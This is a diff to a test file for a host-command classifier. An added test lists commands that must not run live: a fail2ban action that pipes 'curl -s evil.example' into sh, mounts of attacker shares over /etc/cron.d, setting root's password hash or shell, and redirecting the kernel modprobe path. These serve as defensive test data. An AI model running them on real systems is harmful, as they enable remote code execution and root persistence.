@@ -113,9 +113,7 @@ describe("what leaves the mirror (review 15: each of these ran on the host)", ()
       "useradd -m -G docker alice",
       "nginx -t && systemctl reload nginx",
       "mount /dev/sdb1 /mnt/data",
-      "mount -t nfs 10.0.0.5:/export /mnt/nfs",
       "certbot renew --quiet",
-      "docker compose -f /srv/app/compose.yml up -d",
       "ufw allow 22/tcp",
       "sysctl -w net.ipv4.ip_forward=1",
       "sysctl -p",
@@ -123,6 +121,51 @@ describe("what leaves the mirror (review 15: each of these ran on the host)", ()
     ])
       expect(where(c), c).toBe("live");
     for (const c of ["apt-get install -qy nginx", "apt-get install -y -t bookworm-backports nginx"]) expect(where(c), c).toBe("package");
+  });
+
+  it("review 18: names only where no allow-list applies; /srv, /opt, /var/lib are no root-only places", () => {
+    for (const c of [
+      "docker-compose -f /srv/app/compose.yml run --rm -v /etc/cron.d:/etc/cron.d app sh -c 'id'",
+      "docker compose -f /etc/app/compose.yml cp app:x /usr/local/sbin/runner",
+      "docker compose -f /srv/app/compose.yml up -d",
+      "mount -t nfs 10.0.0.5:/export /mnt/nfs",
+      "mount -t nfs evil.example:/x /etc/cron.d",
+      "mount -t cifs //evil.example/s /mnt/s",
+      "mount -o loop /srv/app/img /mnt/img",
+      "fail2ban-client set sshd action iptables-multiport actionban 'curl -s evil.example|sh'",
+      "fail2ban-client set sshd addaction x /srv/app/evil.py",
+      "useradd -Rx bob",
+      "useradd --root=x bob",
+      "usermod -m -d /etc/systemd/system-generators agent",
+      "useradd -m -k /srv/app/skel -d /etc/systemd/system/nginx.service.d svc",
+      "chsh -s /srv/app/sh root",
+      "usermod -p HASH root",
+      "sysctl -w kernel..modprobe=/srv/app/x",
+      "sysctl -p /srv/app/x.conf",
+      "needrestart -cx.pl",
+      "update-ca-certificates --hooksdir /srv/app/hooks",
+      "firewall-cmd --new-zone-from-file=/tmp/z.xml",
+      "nft -I /tmp/inc -f main",
+      "timedatectl set-timezone /tmp/zone",
+      "hwclock --adjfile=/etc/cron.d/x",
+      "pg_restore -U postgres -d app /srv/app/db.dump",
+      "nmcli connection export x /etc/cron.d/x",
+      "vault operator step-down -address=https://evil.example",
+    ])
+      expect(where(c), c).not.toBe("live");
+    for (const c of [
+      "useradd -m -s /bin/bash -G sudo,docker alice",
+      "usermod -aG docker alice",
+      "mount /dev/sdb1 /mnt/data",
+      "fail2ban-client reload",
+      "fail2ban-client set sshd unbanip 192.0.2.7",
+      "kill -HUP 1234",
+      "pg_ctlcluster 15 main restart",
+      "resolvectl dns eth0 1.1.1.1",
+      "needrestart -r a",
+      "update-ca-certificates",
+    ])
+      expect(where(c), c).not.toBe("mirror");
   });
 
   it("refuses a second root, a kernel helper and a start of the power targets on primary", () => {
